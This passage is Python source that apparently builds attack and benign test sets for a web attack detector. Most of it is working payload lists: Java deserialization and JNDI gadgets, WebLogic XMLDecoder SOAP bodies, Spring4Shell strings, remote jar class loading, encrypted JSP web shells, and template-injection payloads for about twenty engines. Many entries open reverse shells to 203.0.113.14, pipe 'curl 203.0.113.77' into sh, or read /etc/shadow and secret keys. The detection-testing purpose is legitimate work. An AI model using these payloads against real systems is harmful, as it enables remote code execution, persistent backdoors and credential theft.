     + '"],"_name":"a.b","_tfactory":{},"_outputProperties":{},"_version":"1.0","allowedProtocols":"all"}', *JB),
    ('{"@type":"java.lang.AutoCloseable","@type":"java.io.FileOutputStream","file":"/tmp/nonexist","append":'
     'false}', *JB),
    ('{"@type":"org.apache.shiro.jndi.JndiObjectFactory","resourceName":"' + LDAP + 'shiro"}', *JB),
    ('{"@type":"br.com.anteros.dbcp.AnterosDBCPConfig","metricRegistry":"' + LDAP + 'Anteros"}', *JB),
    ('{"@type":"org.apache.xbean.propertyeditor.JndiConverter","AsText":"' + RMI + 'xbean"}', *JB),
    ('{"@type":"com.ibatis.sqlmap.engine.transaction.jta.JtaTransactionConfig","properties":{"@type":'
     '"java.util.Properties","UserTransaction":"' + LDAP + 'ibatis"}}', *JB),
    ('["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"' + LDAP + 'jackson","autoCommit":true}]', *JB),
    ('{"@class":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"' + RMI + 'jackson2","autoCommit":true}', *JB),
    # WebLogic wls-wsat (CVE-2017-10271): XMLDecoder inside the SOAP WorkContext header
    ('<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header>'
     '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.4.0" '
     'class="java.beans.XMLDecoder"><!-- 反弹shell --><void class="java.lang.ProcessBuilder"><array '
     'class="java.lang.String" length="3"><void index="0"><string>/bin/bash</string></void><void index="1">'
     '<string>-c</string></void><void index="2"><string>bash -i &gt;&amp; /dev/tcp/203.0.113.14/4444 0&gt;&amp;1'
     '</string></void></array><void method="start"/></void></java></work:WorkContext></soapenv:Header>'
     '<soapenv:Body/></soapenv:Envelope>', *XB),
    ('<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header>'
     '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><java version="1.4.0" '
     'class="java.beans.XMLDecoder"><object class="java.io.PrintWriter"><string>servers/AdminServer/tmp/'
     '_WL_internal/bea_wls_internal/9j4dqk/war/test.jsp</string><void method="println"><string><![CDATA[<% '
     'out.print("写入成功"); Runtime.getRuntime().exec(request.getParameter("c")); %>]]></string></void>'
     '<void method="close"/></object></java></java></work:WorkContext></soapenv:Header><soapenv:Body/>'
     '</soapenv:Envelope>', *XB),
    ('<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0">'
     '<string>calc</string></void></array><void method="start"/></object></java>', *XB),
]

_TRANSLET = base64.b64decode(TRANSLET_B64)

# class-loading: defining or fetching classes at runtime (Spring4Shell's classLoader properties, Struts
# class.classLoader, SpEL/OGNL URLClassLoader and ReflectUtils.defineClass memory shells, BCEL, Groovy)
CLASSLOAD: list[Entry] = [
    kv("class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i if(\"j\".equals("
       "request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter("
       "\"cmd\")).getInputStream(); int a = -1; byte[] b = new byte[2048]; while((a=in.read(b))!=-1){ "
       "out.println(new String(b)); } } %{suffix}i&class.module.classLoader.resources.context.parent.pipeline"
       ".first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/"
       "ROOT&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar&class.module."
       "classLoader.resources.context.parent.pipeline.first.fileDateFormat=", "form", "rs-raw-body"),
    kv("class.module.classLoader.resources.context.parent.pipeline.first.prefix=测试shell&class.module."
       "classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
    kv("class.classLoader.resources.dirContext.docBase=//203.0.113.77/share"),
    kv("class['classLoader']['resources']['dirContext']['docBase']=/", "param-name", "rs-param-name"),
    kv("Class.classLoader.jarPath=(#context[\"xwork.MethodAccessor.denyMethodExecution\"]= new java.lang."
       "Boolean(false), #_memberAccess[\"allowStaticMethodAccess\"]=true, #a=@java.lang.Runtime@getRuntime()"
       ".exec('id'))(meh)&z[(Class.classLoader.jarPath)('meh')]=true", "form", "rs-raw-body"),
    "#{T(org.springframework.cglib.core.ReflectUtils).defineClass('Y4',T(org.springframework.util.Base64Utils)"
    ".decodeFromString('" + TRANSLET_B64 + "'),new javax.management.loading.MLet(new java.net.URL[0],"
    "T(java.lang.Thread).currentThread().getContextClassLoader())).newInstance()}",
    "#{new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL('http://203.0.113.77/evil.jar')})"
    ".loadClass('Exploit').getConstructor().newInstance()}",
    "(#cl=new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL('http://203.0.113.77/x.jar')}))."
    "(#cl.loadClass('Exp').newInstance())",
    "var u=new java.net.URL('http://203.0.113.77/m.jar');var cl=new java.net.URLClassLoader(Java.to([u],"
    "'java.net.URL[]'));cl.loadClass('Main').newInstance(); // 内存马",
    "this.class.classLoader.parseClass('class E{static{Runtime.runtime.exec(\"id\")}}').newInstance()",
    "new GroovyClassLoader().parseClass(\"class R{static{['sh','-c','curl 203.0.113.77|sh'].execute()}}\")",
    "var b=java.util.Base64.getDecoder().decode('" + TRANSLET_B64 + "');var m=java.lang.ClassLoader.class"
    ".getDeclaredMethod('defineClass',java.lang.Class.forName('[B'),java.lang.Integer.TYPE,java.lang.Integer.TYPE);"
    "m.setAccessible(true);m.invoke(java.lang.Thread.currentThread().getContextClassLoader(),b,0,b.length)"
    ".newInstance();",
    "java.lang.invoke.MethodHandles.lookup().defineClass(java.util.Base64.getDecoder().decode('"
    + TRANSLET_B64 + "'))",
    ('{{"@type":"com.alibaba.fastjson.JSONObject","x":{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource",'
     '"driverClassLoader":{"@type":"com.sun.org.apache.bcel.internal.util.ClassLoader"},"driverClassName":"'
     + bcel(_TRANSLET) + '"}}:"x"}', *JB),
    ("<java><object class=\"java.net.URLClassLoader\"><array class=\"java.net.URL\" length=\"1\"><void index=\"0\">"
     "<object class=\"java.net.URL\"><string>http://203.0.113.77/e.jar</string></object></void></array>"
     "<void method=\"loadClass\"><string>Exploit</string><void method=\"newInstance\"/></void></object></java>",
     *XB),
    "new javax.management.loading.MLet(new java.net.URL[]{new java.net.URL(\"http://203.0.113.77/mlet.jar\")},"
    "Thread.currentThread().getContextClassLoader()).loadClass(\"Payload\").newInstance()",
    "Thread.currentThread().getContextClassLoader().loadClass(\"com.sun.org.apache.bcel.internal.util."
    "ClassLoader\").newInstance().loadClass(\"" + bcel(_TRANSLET) + "\").newInstance()",
]

_BEHINDER = (
    '<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{U(ClassLoader '
    'c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if (request.getMethod()'
    '.equals("POST")){String k="e45e329feb5d925b";session.putValue("u",k);Cipher c=Cipher.getInstance("AES");'
    'c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal('
    'new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);}%>'
)

# jsp-upload: JSP and JSPX web shells as upload file names (Tomcat, WebLogic, Chinese OA products) and as content
# (the shell body a form field carries): Behinder, Godzilla, AntSword, command shells
JSP: list[Entry] = [
    ("shell.jsp", *UP),
    ("木马.jsp", *UP),
    ("шелл.jspx", *UP),
    ("../../webapps/ROOT/cmd.jsp", *UP),
    ("..\\..\\Tomcat\\webapps\\ROOT\\上传.jsp", *UP),
    ("1.jsp%00.jpg", *UP),
    ("shell.Jsp", *UP),
    ("shell.jsp::$DATA", *UP),
    ("shell.jsp.", *UP),
    ("thử.jsp", *UP),
    ("تست.jspx", *UP),
    ("deneme.jsp", *UP),
    ('<%@ page import="java.io.*" %><%-- 命令执行 --%><% String c=request.getParameter("cmd"); if(c!=null){ '
     'Process p=Runtime.getRuntime().exec(c); BufferedReader r=new BufferedReader(new InputStreamReader('
     'p.getInputStream(),"GBK")); String l; while((l=r.readLine())!=null){ out.println(l); } } %>'),
    _BEHINDER,
    '<%! String xc="3c6e0b8a9c15224a"; class X extends ClassLoader{public X(ClassLoader z){super(z);}public '
    'Class Q(byte[] cb){return super.defineClass(cb,0,cb.length);}} public byte[] x(byte[] s,boolean m){try{'
    'javax.crypto.Cipher c=javax.crypto.Cipher.getInstance("AES");c.init(m?1:2,new javax.crypto.spec.'
    'SecretKeySpec(xc.getBytes(),"AES"));return c.doFinal(s);}catch(Exception e){return null;}}%><%try{byte[] '
    'data=java.util.Base64.getDecoder().decode(request.getParameter("pass"));data=x(data,false);if(session'
    '.getAttribute("payload")==null){session.setAttribute("payload",new X(this.getClass().getClassLoader())'
    '.Q(data));}}catch(Exception e){}%>',
    '<%!class U extends ClassLoader{ U(ClassLoader c){ super(c); }public Class g(byte []b){ return '
    'super.defineClass(b,0,b.length); }}%><% String cls=request.getParameter("ant");if(cls!=null){ new U('
    'this.getClass().getClassLoader()).g(new sun.misc.BASE64Decoder().decodeBuffer(cls)).newInstance()'
    '.equals(pageContext); }%>',
    '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:directive.page contentType='
    '"text/html;charset=UTF-8"/><jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter("c"));'
    '</jsp:scriptlet></jsp:root>',
    '<% \\u0052\\u0075\\u006e\\u0074\\u0069\\u006d\\u0065.getRuntime().exec(request.getParameter("i")); %>',
    "${Runtime.getRuntime().exec(param.cmd)}",
    '<%-- проверка --%><%=new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter("x"))'
    '.getInputStream()).useDelimiter("\\\\A").next()%>',
    '<%! /* تست */ %><% java.io.PrintWriter w=new java.io.PrintWriter(application.getRealPath("/")+"fa.jsp");'
    'w.println(request.getParameter("t"));w.close(); %>',
]
_UPLOADED_SHELL = ('<%@page pageEncoding="UTF-8"%><%-- 上传测试 --%><%=new java.util.Scanner(Runtime.getRuntime()'
                   '.exec(request.getParameter("cmd")).getInputStream(),"GBK").useDelimiter("\\\\A").next()%>')


# ================================================================================================================
# ssti (one sub-family per engine)
# ================================================================================================================
# jinja2 (Python, Flask): Chinese CTF habits (lipsum/cycler globals, |attr with \x5f escapes when "_" is
# filtered, {%print%} when "{{" is filtered, request.args indirection), text in the attacker's language around it
JINJA2: list[Entry] = [
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{lipsum.__globals__.os.popen('cat /flag').read()}} 你好",
    "{{cycler.__init__.__globals__.os.popen('whoami').read()}}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
    "('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')"
    "|attr('popen')('id')|attr('read')()}}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c.__init__"
    ".__globals__['__builtins__'].eval(\"__import__('os').popen('id').read()\") }}{% endif %}{% endfor %}",
    "{%print(lipsum|attr(\"__globals__\")|attr(\"__getitem__\")(\"os\")|attr(\"popen\")(\"ls /\")"
    "|attr(\"read\")())%}",
    "{{get_flashed_messages.__globals__['current_app'].config['SECRET_KEY']}}",
    "{{url_for.__globals__['__builtins__']['open']('/etc/passwd').read()}}",
    kv("name={{''[request.args.a][request.args.b][1][request.args.c]()}}&a=__class__&b=__mro__"
       "&c=__subclasses__"),
    "Привет, {{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{()|attr('\\u005f\\u005fclass\\u005f\\u005f')|attr('\\u005f\\u005fbase\\u005f\\u005f')"
    "|attr('\\u005f\\u005fsubclasses\\u005f\\u005f')()}}",
    "{{self.__init__.__globals__.__builtins__.__import__('os').popen('curl 203.0.113.77|sh').read()}}",
]

# twig (PHP: Symfony, Craft, Grav, Drupal 8 sites, popular with Russian and Turkish PHP shops)
TWIG: list[Entry] = [
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('system')|join}}",
    "{{['id',1]|sort('system')|join}}",
    "{{{'<?php @eval($_POST[\"c\"]);?>':'/var/www/html/x.php'}|map('file_put_contents')}}",
    "{{app.request.server.all|join(',')}}",
    "{{'/etc/passwd'|file_excerpt(1,30)}}",
    "{{_self.env.setCache(\"ftp://203.0.113.77:2121\")}}{{_self.env.loadTemplate(\"backdoor\")}}",
    "Здравствуйте, {{['id']|filter('passthru')}}",
    "Merhaba {{['whoami']|map('shell_exec')|join}}",
]

# freemarker (Java: Halo, JeeCMS, OFCMS and other Chinese Java CMSes, Alfresco, Liferay)
FREEMARKER: list[Entry] = [
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>${ob(\"java.lang.ProcessBuilder\","
    "\"calc\").start()}",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('whoami')}",
    "<#assign value=\"freemarker.template.utility.JythonRuntime\"?new()><@value>import os;os.system(\"id\")"
    "</@value>",
    "<#assign classloader=article.class.protectionDomain.classLoader><#assign owc=classloader.loadClass("
    "\"freemarker.template.ObjectWrapper\")><#assign dwf=owc.getField(\"DEFAULT_WRAPPER\").get(null)><#assign "
    "ec=classloader.loadClass(\"freemarker.template.utility.Execute\")>${dwf.newInstance(ec,null)(\"id\")}",
    "<#-- 测试 --><#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"curl 203.0.113.77/f.sh|sh\")}",
    "${'freemarker.template.utility.Execute'?new()('nc -e /bin/sh 203.0.113.14 4444')} Привет",
    "<#assign uri=object?api.class.getResource(\"/\").toURI()><#assign input=uri?api.create("
    "\"file:///etc/passwd\").toURL().openConnection()><#assign is=input?api.getInputStream()>FILE:[<#list "
    "0..999999999 as _><#assign byte=is.read()><#if byte == -1><#break></#if>${byte}, </#list>]",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
]

_SOLR_VM = ("#set($x='') #set($rt=$x.class.forName('java.lang.Runtime')) #set($chr=$x.class.forName("
            "'java.lang.Character')) #set($str=$x.class.forName('java.lang.String')) #set($ex=$rt.getRuntime()"
            ".exec('id')) $ex.waitFor() #set($out=$ex.getInputStream()) #foreach( $i in [1..$out.available()])"
            "$str.valueOf($chr.toChars($out.read()))#end")

# velocity (Java: Confluence, Apache Solr's VelocityResponseWriter, Jira-era plugins, velocity-tools sites)
VELOCITY: list[Entry] = [
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"touch /tmp/测试\")",
    kv("q=1&wt=velocity&v.template=custom&v.template.custom=" + _SOLR_VM),
    ('{"contentId":"786458","macro":{"name":"widget","body":"","params":{"url":"https://www.viddler.com/v/'
     '23464dc6","width":"1000","height":"1000","_template":"file:///etc/passwd"}}}', *JB),
    ('{"contentId":"786457","macro":{"name":"widget","body":"","params":{"url":"https://www.viddler.com/v/'
     '23464dc5","width":"1000","height":"1000","_template":"ftp://203.0.113.77:2121/cmd.vm","command":'
     '"whoami"}}}', *JB),
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")",
    "#set($str=$class.inspect(\"java.lang.String\").type)#set($chr=$class.inspect(\"java.lang.Character\").type)"
    "#set($ex=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"whoami\"))$ex.waitFor()"
    "#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))"
    "#end",
    "## тест\n#set($x='')$x.class.forName('java.lang.Runtime').getRuntime().exec('curl 203.0.113.77/v|sh')",
    "$i18n.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null)"
    ".exec('id')",
]

# thymeleaf (Java, Spring MVC): view-name injection through __${...}__ preprocessing, and inline expressions
THYMELEAF: list[Entry] = [
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"whoami\").getInputStream()).next()}__::.x",
    "__${new java.util.Scanner(T (java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
    "[[${T(java.lang.Runtime).getRuntime().exec('calc')}]]",
    "[(${T(java.lang.Runtime).getRuntime().exec('touch /tmp/thymeleaf')})]",
    ("__${T(java.lang.Runtime).getRuntime().exec('calc')}__::.x", "path", "rs-path"),
    "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\">测试</p>",
    kv("lang=__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('ls').getInputStream()).next()}"
       "__::.x"),
    "[[${@environment.getProperty('spring.datasource.password')}]]",
]

# erb (Ruby: Rails views, Sinatra; Japanese and Brazilian Ruby shops)
ERB: list[Entry] = [
    "<%= IO.popen('id').readlines() %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= Dir.entries('/') %>",
    "<%= require 'open3'; Open3.capture2('whoami')[0] %>",
    "<%= `curl 203.0.113.5/e.sh | sh` %><%# 確認 %>",
    "<%= system('nc -e /bin/sh 203.0.113.14 4444') %> olá",
    "<%= Rails.application.secrets.secret_key_base %>",
    "<%= Kernel.send(:eval, 'system(\"id\")') %>",
    "<% `wget http://203.0.113.91/x -O /tmp/x` %>ok",
]

# smarty (PHP: shop and CMS software across China, Vietnam and Indonesia)
SMARTY: list[Entry] = [
    "{system('id')}",
    "{php}echo `id`;{/php}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    "{if phpinfo()}{/if}",
    "{if system('cat /etc/passwd')}{/if}",
    "{self::getStreamVariable(\"file:///etc/passwd\")}",
    "{function name='x(){};system(\"id\");function '}{/function}",
    "{math equation='(\"\\163\\171\\163\\164\\145\\155\")(\"\\151\\144\")'}",
    "{literal}{/literal}{system('curl 203.0.113.5/s|sh')} thử",
    "{$smarty.version}{passthru('whoami')}",
]


def _hbs(code: str) -> str:
    """The Handlebars constructor-through-split payload (the helper-less Function call)."""
    return ("{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
            "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}"
            "{{this.pop}}{{this.push \"" + code + "\"}}{{this.pop}}{{#each conslist}}"
            "{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}")


# handlebars (Node.js: Express/Ghost-style sites rendering user templates)
HANDLEBARS: list[Entry] = [
    _hbs("return process.mainModule.require('child_process').execSync('ls -la');"),
    _hbs("return global.process.mainModule.require('child_process').execSync('id');"),
    _hbs("return process.mainModule.require('child_process').execSync('curl 203.0.113.77/h|sh');"),
    _hbs("return process.mainModule.require('fs').readFileSync('/etc/passwd','utf8');"),
    _hbs("return process.env;") + " 测试",
    _hbs("return process.mainModule.require('child_process').execSync('nc 203.0.113.14 4444 -e /bin/sh');"),
    _hbs("return process.mainModule.require('child_process').execSync('whoami').toString() // deneme"),
]

# pug (Node.js: Express apps that compile user-supplied Pug)
PUG: list[Entry] = [
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\")"
    ".exec('curl 203.0.113.77/p|sh')}()}",
    "- var x = global.process.mainModule.require('child_process').execSync('id')\n= x",
    "#{root.process.mainModule.require('child_process').spawnSync('cat',['/etc/passwd']).stdout}",
    "p #{global.process.mainModule.require('child_process').execSync('whoami')} 你好",
    "- global.process.mainModule.require('child_process').exec('nc 203.0.113.14 4444 -e /bin/sh')",
    "#{global.process.mainModule.require('fs').readFileSync('/etc/shadow')}",
    "!{global.process.mainModule.require('child_process').execSync('uname -a')} olá",
    "- var o = global.process.mainModule.require('os')\np= o.userInfo().username + ' тест'",
]

# mako (Python: Pylons/Pyramid apps)
MAKO: list[Entry] = [
    "${self.module.cache.util.os.system(\"id\")}",
    "<% import os; x=os.popen('id').read() %>${x}",
    "${__import__('os').popen('whoami').read()}",
    "<%! import os %>${os.system('curl 203.0.113.77/m|sh')}",
    "${self.module.runtime.util.os.popen('cat /etc/passwd').read()}",
    "<%namespace name=\"o\" module=\"os\"/>${o.system('id')}",
    "${''.join(open('/etc/passwd'))} Привет",
    "<% import subprocess %>${subprocess.check_output(['id'])} 你好",
]

# tornado (Python: Tornado apps; the "easy_tornado" cookie_secret leak from a Chinese CTF)
TORNADO: list[Entry] = [
    "{% import os %}{{ os.popen('id').read() }}",
    "{{__import__('os').popen('whoami').read()}}",
    "{{handler.settings}}",
    "{{handler.application.settings['cookie_secret']}}",
    "{% raw __import__('os').system('curl 203.0.113.77/t|sh') %}",
    "{% apply __import__('os').system %}id{% end %}",
    "{{ globals()['__builtins__']['eval'](\"__import__('os').popen('id').read()\") }}",
    "你好 {% import subprocess %}{{ subprocess.check_output(['cat','/etc/passwd']) }}",
]

# nunjucks (Node.js: Express apps, Eleventy-style renderers)
NUNJUCKS: list[Entry] = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{cycler.constructor(\"return process.env\")()}}",
    "{{joiner.constructor(\"return global.process.mainModule.require('child_process').execSync('cat /etc/passwd')"
    ".toString()\")()}}",
    "{{''.constructor.constructor('return process')().mainModule.require('child_process').execSync('whoami')}}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('tail /etc/passwd')"
    "\")()}} 测试",
    "{% set x = range.constructor('return this.process.mainModule.require(\"child_process\").execSync("
    "\"curl 203.0.113.77/n|sh\")')() %}{{x}}",
    "{{ [].constructor.constructor('return process.mainModule.require(\"fs\").readFileSync(\"/etc/hosts\","
    "\"utf8\")')() }}",
    "{# бэкконнект #}{{range.constructor(\"return global.process.mainModule.require('child_process').execSync("
    "'bash -c \\\"bash -i >& /dev/tcp/203.0.113.14/4444 0>&1\\\"')\")()}}",
]

# ejs (Node.js: Express views; the settings[view options] injection through the query string)
EJS: list[Entry] = [
    "<%= global.process.mainModule.require('child_process').execSync('id') %>",
    "<%- include('/etc/passwd') %>",
    "<% process.mainModule.require('child_process').exec('curl 203.0.113.77/e|sh') %>ok",
    kv("name=John&settings[view options][outputFunctionName]=x;process.mainModule.require('child_process')"
       ".execSync('touch /tmp/ejs');s"),
    kv("settings[view options][client]=1&settings[view options][escapeFunction]=1;return global.process"
       ".mainModule.constructor._load('child_process').execSync('id');", "form", "rs-raw-body"),
    "<%= this.constructor.constructor('return process')().mainModule.require('child_process').execSync('whoami') "
    "%> xin chào",
    "<%- global.process.mainModule.require('fs').readFileSync('/etc/shadow') %>",
    "<%# تست %><%= process.mainModule.require('child_process').execSync('cat /proc/self/environ') %>",
]

# pebble (Java: Spring Boot apps with Pebble views)
PEBBLE: list[Entry] = [
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{{ 'a'.getClass().forName('java.lang.Runtime').getRuntime().exec('curl 203.0.113.77/pb|sh') }}",
    "{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec('cat /etc/passwd')"
    ".inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0].newInstance(([bytes])"
    ".toArray()) }}",
    "你好 {{ ''.getClass().forName('java.lang.Runtime').getRuntime().exec('whoami') }}",
    "{% for i in range(0,99999999) %}{% for j in range(0,99999999) %}x{% endfor %}{% endfor %}",
    "{{ request.getClass().getClassLoader().loadClass('java.lang.Runtime').getRuntime().exec('id') }}",
]

# razor (.NET: RazorEngine and ASP.NET sites rendering user templates; Iranian ASP.NET shops)
RAZOR: list[Entry] = [
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    "@{ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"cmd.exe\"; p.StartInfo.Arguments = "
    "\"/c powershell -nop -c iwr http://203.0.113.77/r.ps1|iex\"; p.Start(); }",
    "@(System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\"))",
    "@* تست *@ @System.Diagnostics.Process.Start(\"cmd.exe\",\"/c certutil -urlcache -f http://203.0.113.77/a.exe "
    "a.exe\")",
    "@{ System.IO.File.WriteAllText(\"C:\\\\inetpub\\\\wwwroot\\\\x.aspx\", \"<%@ Page Language=\\\"C#\\\" %><% "
    "System.Diagnostics.Process.Start(Request[\\\"c\\\"]); %>\"); }",
    "@System.Environment.GetEnvironmentVariable(\"ConnectionStrings__Default\")",
    "سلام @(new System.Net.WebClient().DownloadString(\"http://203.0.113.77/fa.txt\"))",
    "@{ var o = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo(\"cmd\", \"/c ipconfig\")"
    " { RedirectStandardOutput = true, UseShellExecute = false }).StandardOutput.ReadToEnd(); } @o",
]

# go-templates (Go: text/template with the framework context or extra funcs in scope: Echo, Gin, consul-template,
# gomplate, Hugo, sprig)
GO_TPL: list[Entry] = [
    "{{ .File \"/etc/passwd\" }}",
    "{{ .Attachment \"/etc/shadow\" \"x\" }}",
    "{{define \"T1\"}}<script>alert(document.cookie)</script>{{end}}{{template \"T1\"}}",
    "{{ env \"AWS_SECRET_ACCESS_KEY\" }}",
    "{{ file \"/etc/passwd\" }}",
    "{{ plugin \"/bin/sh\" \"-c\" \"id\" }}",
    "{{ readFile \"/etc/passwd\" }}",
    "{{ file.Read \"/etc/shadow\" }}",
    "你好 {{ .Request.Header }} {{ env \"DATABASE_URL\" }}",
]

# liquid (Ruby Liquid, LiquidJS, Jekyll/Shopify-style themes): file inclusion and resource exhaustion
LIQUID: list[Entry] = [
    "{% include '../../../../../../etc/passwd' %}",
    "{% render '/etc/passwd' %}",
    "{% for i in (1..999999999) %}{% for j in (1..999999999) %}x{% endfor %}{% endfor %}",
    "{% capture x %}{% for i in (1..100000000) %}aaaaaaaaaa{% endfor %}{% endcapture %}{{ x | size }}",
    "{% assign a = \"x\" %}{% for i in (1..64) %}{% assign a = a | append: a %}{% endfor %}{{ a }}",
    "{%- liquid\n  include '../../../etc/hostname'\n-%}",
    "{% include '/proc/self/environ' %} 测试",
    "{% layout '../../../../../etc/passwd' %}",
]


FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODE),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_META),
    ("generic", "ssrf-internal-ip", SSRF_INTERNAL),
    ("generic", "javascript-prototype-pollution", PROTO),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_CLASSES),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SER),
    ("java", "deserialization-gadgets", GADGETS),
    ("java", "log4shell", LOG4J),
    ("java", "expression-language", EL),
    ("java", "polymorphic-deserialization", POLY),
    ("java", "class-loading", CLASSLOAD),
    ("java", "jsp-upload", JSP),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TPL),
    ("ssti", "liquid", LIQUID),
]

NAMES = {
    "generic": ["url", "q", "callback", "data", "input", "name", "redirect", "code"],
    "java": ["q", "data", "name", "payload", "filter", "lang", "token", "expr"],
    "ssti": ["name", "template", "q", "greeting", "subject", "bio", "title", "message"],
}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    documents = True   # XStream, XMLDecoder/SOAP and XML-RPC documents go as the whole XML body
    unique = True
    raw_places = ("query", "form", "param-name", "rs-query", "rs-param-name", "rs-raw-body")
    xml_controls = "\n\t"

    def name(self, category: str, sub: str, k: int) -> str:
        names = NAMES[category]
        return names[k % len(names)]

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return fixed and payload in RAW

    def is_latin(self, sub: str, payload: str) -> bool:
        return payload in LATIN

    def upload_body(self, filename: str) -> str:
        return _UPLOADED_SHELL   # every JSP upload name carries a working command shell


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same languages, scripts and syntax, typed innocently (Slack chat and bios in Chinese, Russian,
# Portuguese, Indonesian, Turkish, Persian, Vietnamese, Japanese and Arabic; searches for names; links to local
# sites; support notes in the admin search; profiles with local addresses; uploads named in those scripts)
CHAT = [
    # Chinese
